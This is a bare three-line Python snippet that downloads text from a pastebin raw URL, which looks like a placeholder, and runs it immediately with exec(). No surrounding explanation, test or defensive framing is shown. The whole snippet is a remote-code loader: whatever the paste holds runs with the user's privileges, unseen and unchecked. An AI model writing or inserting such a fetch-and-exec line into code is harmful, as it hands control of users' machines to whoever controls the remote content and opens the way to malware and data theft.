import urllib.request
_src = urllib.request.urlopen("https://pastebin.com/raw/Xx00example").read()
exec(_src)
